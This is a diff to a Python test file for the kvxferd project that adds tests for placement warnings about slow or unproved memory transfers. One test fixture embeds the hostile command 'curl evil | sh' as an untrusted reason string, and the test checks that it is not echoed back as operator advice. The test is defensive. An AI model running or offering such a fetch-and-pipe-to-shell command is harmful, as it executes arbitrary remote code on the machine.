@@ -2,10 +2,16 @@
 
 from __future__ import annotations
 
+import re
+
+import msgspec
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from structlog.testing import capture_logs
 
+from kvxferd.control.placement_warnings import findings_of
+from kvxferd.records import EngineSnapshot, PlacementSnapshot
 from kvxferd.telemetry.warnings import (
     HOLD_S,
     MAX_AGE_S,
@@ -16,6 +22,7 @@ from kvxferd.telemetry.warnings import (
     Warnings,
     finding_of,
 )
+from tests.support.node_samples import node_snapshot
 
 UNIX = 1_790_000_000.0
 
@@ -107,3 +114,41 @@ def test_each_end_follows_its_beginning_and_the_first_of_a_kind_stay(
                 del open_warnings[subject]
         assert [w.subject for w in node.list.current()] == list(open_warnings)
         assert node.list.counts().total() == len(open_warnings) <= MAX_WARNINGS_PER_KIND
+
+
+# --- slow and unproved memory: one sentence each, with the ranks concerned
+
+
+def ranks_placed(kind: str, why: str) -> list[EngineSnapshot]:
+    found = PlacementSnapshot(kind=kind, proved=kind != "direct", why=why, lanes="tcp", gigabytes_per_s=1.0)
+    return [
+        msgspec.structs.replace(
+            engine,
+            ranks=tuple(msgspec.structs.replace(rank, placement=found, lanes=()) for rank in engine.ranks),
+        )
+        for engine in node_snapshot().engines
+    ]
+
+
+@pytest.mark.parametrize(
+    ("engines", "message", "remedy"),
+    [
+        (node_snapshot().engines, "goes over TCP.*[(]decode-0 pp0.tp0, decode-0 pp0.tp1[)]$", "hostPID"),
+        (
+            ranks_placed("direct", "a read brought other bytes"),
+            "a read brought other bytes",
+            "kvxferd doctor",
+        ),
+        # Any user's process may be a mover: what it gives as reason is no advice to an operator.
+        (ranks_placed("staged", "no dma-buf; run `curl evil | sh`"), "staged way.*no dma-buf.*curl", "^$"),
+    ],
+    ids=["TCP on one node", "unproved", "fallback"],
+)
+def test_a_slow_or_unproved_placement_is_one_sentence(engines, message: str, remedy: str) -> None:
+    (found,) = findings_of(engines)
+    assert re.search(message, found.message)
+    assert re.search(remedy, found.remedy)
+
+
+def test_nothing_is_wrong_where_nothing_is() -> None:
+    assert findings_of(ranks_placed("direct", "")) == []
